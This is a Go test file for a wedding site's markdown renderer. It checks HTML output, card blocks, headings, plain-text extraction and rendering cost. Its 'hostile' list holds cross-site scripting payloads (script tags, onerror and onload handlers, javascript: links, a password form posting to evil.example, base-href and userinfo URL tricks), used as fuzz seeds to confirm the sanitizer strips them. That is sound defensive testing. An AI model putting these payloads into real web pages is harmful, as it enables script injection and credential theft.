package markdown_test

import (
	"sort"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/uuid"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"weddings/internal/markdown"
)

var (
	hash  = strings.Repeat("ab", 32)
	known = markdown.Options{Picture: func(h string) (markdown.Image, bool) {
		src := "/media/" + h + "/800.jpg"
		return markdown.Image{Src: src, SrcSet: src + " 800w", Width: 1200, Height: 800, Alt: `A "hall"`}, h == hash
	}}
)

func html(text string) string {
	var all strings.Builder
	for _, b := range markdown.Render(text, known).Blocks {
		all.WriteString(b.HTML)
	}
	return all.String()
}

func TestWhatEditorsWriteBecomesHTML(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"# عنوان":        `<h2 dir="auto" id="s-عنوان">عنوان</h2>`,
		"## A & B":       `<h2 dir="auto" id="s-a-b">A &amp; B</h2>`,
		"##### Deep":     `<h4 dir="auto" id="s-deep">Deep</h4>`,
		"**مهم** ~~لا~~": `<p dir="auto"><strong>مهم</strong> <del>لا</del></p>`,
		"- a\n- b":       "<ul dir=\"auto\">\n<li>a</li>\n<li>b</li>\n</ul>",
		"[x](https://example.com/?a=1&b=2)": `<p dir="auto"><a href="https://example.com/?a=1&amp;b=2" ` +
			`rel="nofollow">x</a></p>`,
		"[x](/venues)": `<p dir="auto"><a href="/venues">x</a></p>`,
		"| a | b |\n|--|:-:|\n| 1 | 2 |": "<table>\n<thead>\n<tr>\n<th dir=\"auto\">a</th>\n<th dir=\"auto\">b</th>\n" +
			"</tr>\n</thead>\n<tbody>\n<tr>\n<td dir=\"auto\">1</td>\n<td dir=\"auto\">2</td>\n</tr>\n</tbody>\n</table>",
		"a<br>b<BR />c<b>d</b>": `<p dir="auto">a<br>b<br>cd</p>`,
		"![](picture:" + hash + ` "تحت")`: `<figure><img src="/media/` + hash + `/800.jpg" srcset="/media/` + hash +
			`/800.jpg 800w" sizes="(max-width: 48rem) 100vw, 44rem" width="1200" height="800" loading="lazy" ` +
			`decoding="async" alt="A &#34;hall&#34;"><figcaption dir="auto">تحت</figcaption></figure>`,
	} {
		assert.Equal(t, want, html(text), text)
	}
	two := "![](picture:" + hash + ")\n![](/media/" + hash + "/320.jpg)"
	assert.True(t, strings.HasPrefix(html(two), `<div class="gallery"><figure>`))
	assert.Equal(t, []string{hash}, markdown.Pictures(two))
}

func TestCardsStandBetweenTheParts(t *testing.T) {
	t.Parallel()
	id := uuid.New()
	d := markdown.Render(
		"قبل\n\n[قاعة](listing:"+id.String()+")\n\n## بعد\n\nنص [هنا](listing:"+id.String()+").\n\n## بعد",
		markdown.Options{},
	)
	require.Len(t, d.Blocks, 3)
	assert.Equal(t, id, d.Blocks[1].Listing)
	assert.Contains(t, d.Blocks[2].HTML, "نص هنا.", "a link to a card within a text is its words")
	assert.Equal(t, []markdown.Heading{{"s-بعد", "بعد", 2}, {"s-بعد-2", "بعد", 2}}, d.Headings)
	assert.Equal(t, 6, d.Words)
	assert.Equal(t, "قبل قاعة بعد نص هنا. بعد", d.Plain)
}

// hostile is what nobody writes by mistake.
var hostile = []string{
	"<script>alert(1)</script>",
	"<img src=x onerror=alert(1)>",
	"<style>*{display:none}</style>",
	"<iframe src=https://evil.example></iframe>",
	"<svg onload=alert(1)>",
	"<a href=javascript:alert(1)>x</a>",
	"[x](javascript:alert(1))",
	"[x](JaVaScRiPt:alert(1))",
	"[x](data:text/html;base64,PHNjcmlwdD4=)",
	"[x](vbscript:x)",
	"![x](https://evil.example/a.png)",
	"![x](//evil.example/a.png)",
	"![x](data:image/png;base64,xx)",
	"![\" onerror=\"alert(1)](picture:" + hash + ")",
	`![x](picture:` + hash + ` "\"><script>alert(1)</script>")`,
	"## <img src=x onerror=alert(1)>",
	"## \"><script>alert(1)</script>",
	"`<script>`\n\n```html\n<script>alert(1)</script>\n```",
	"<details open ontoggle=alert(1)>",
	"[x](https://example.com \"' onmouseover='alert(1)\")",
	"&lt;script&gt;alert(1)&lt;/script&gt;",
	"<https://evil.example/\" onclick=\"x>",
	"| <script>a</script> |\n|--|\n| <img onerror=x> |",
	"[x]: javascript:alert(1)\n\n[x]",
	"![x](listing:" + uuid.NewString() + ")",
	"[x](\u0001javascript:alert(1))",
	"[x](&#106;avascript:alert(1))",
	"<div class=gallery style=position:fixed>",
	"<form action=https://evil.example><input name=password></form>",
	"{.evil onclick=x}\n# h {#id onclick=alert(1)}",
	"<base href=https://evil.example/>",
	"[x](https://maps.example@evil.example/)",
	"<a href='http://a:b@evil.example'>x</a>",
	"[x](//a@evil.example)",
	"[x](//evil.example)",
	"[x](http:a@evil.example)",
	"[x](https:evil.example)",
	"[x](https:/evil.example)",
	"<meta http-equiv=refresh content=0>",
}

func harmless(t *testing.T, text string) {
	t.Helper()
	out := html(text)
	lower := strings.ToLower(out)
	for _, tag := range []string{
		"<script", "<style", "<iframe", "<svg", "<form", "<input", "<object", "<embed", "<base", "<meta", "<link",
		"<details", "src=\"http", "src=\"//", "src=\"data:", "href=\"javascript:", "href=\"data:", "href=\"vbscript:",
		"<!--", "@evil.example", "href=\"//", "href=\"http:evil", "href=\"https:evil", "href=\"https:/evil",
	} {
		assert.NotContains(t, lower, tag, "%q", text)
	}
	for _, part := range strings.Split(out, "<")[1:] {
		tag, _, _ := strings.Cut(part, ">")
		inQuotes := false
		plain := strings.Map(func(r rune) rune {
			if r == '"' {
				inQuotes = !inQuotes
			}
			if inQuotes {
				return -1
			}
			return r
		}, tag)
		assert.NotContains(t, strings.ToLower(plain), " on", "%q", text)
		assert.NotContains(t, strings.ToLower(plain), " style", "%q", text)
	}
	assert.True(t, utf8.ValidString(out))
}

func TestNothingHostileComesOut(t *testing.T) {
	t.Parallel()
	for _, text := range hostile {
		harmless(t, text)
		harmless(t, "> "+text)
		harmless(t, "- "+text+"\n\nنص "+text)
	}
}

func FuzzRender(f *testing.F) {
	for _, text := range hostile {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if utf8.ValidString(text) && utf8.RuneCountInString(text) <= 2000 {
			harmless(t, text)
		}
	})
}

// A text that is not refused as intricate costs a bounded multiple of plain words of the greatest length. The unbounded
// ones cost thousands of times as much.
func TestNoTextCostsMuchMoreThanWords(t *testing.T) {
	t.Parallel()
	cost := func(text string) time.Duration {
		least := time.Hour
		for range 3 {
			begun := time.Now()
			markdown.Render(text, known)
			least = min(least, time.Since(begun))
		}
		return least
	}
	table := func(columns int) string {
		head := strings.Repeat("|a", columns) + "\n" + strings.Repeat("|-", columns) + "\n"
		most := sort.Search(markdown.MaxLength, func(rows int) bool {
			return markdown.Intricate(head + strings.Repeat("|\n", rows+1))
		})
		return head + strings.Repeat("|\n", most)
	}
	words := cost(strings.Repeat("كلمة ", markdown.MaxLength/5))
	for _, unit := range []string{
		"[", "*a_ ", "> ", "- ", "`", "![](", "| a |\n|--|\n", "<", "&", "# h\n\n", "[a](", "~~a", "1. ",
	} {
		most := sort.Search(markdown.MaxLength/utf8.RuneCountInString(unit), func(n int) bool {
			return markdown.Intricate(strings.Repeat(unit, n+1))
		})
		assert.Less(t, cost(strings.Repeat(unit, most))/words, time.Duration(60), "%q", unit)
	}
	for _, columns := range []int{2, 20, 140} {
		assert.Less(t, cost(table(columns))/words, time.Duration(60), "a table of %d columns", columns)
	}
}

func TestPlainWordsHaveNoSignsOfMarkdown(t *testing.T) {
	t.Parallel()
	d := markdown.Render(`## 2 \* 3 &amp; 4`+"\n\n"+`كذا \[ليس رابطًا\] &lt;b&gt;`, known)
	assert.Equal(t, "2 * 3 & 4 كذا [ليس رابطًا] <b>", d.Plain)
	assert.Equal(t, "2 * 3 & 4", d.Headings[0].Text)
	cells := markdown.Render("| a<br>b | c |\n|--|--|\n| 1<br/>2<i> | 3 |", known)
	assert.Equal(t, "a b c 1 2 3", cells.Plain)
}
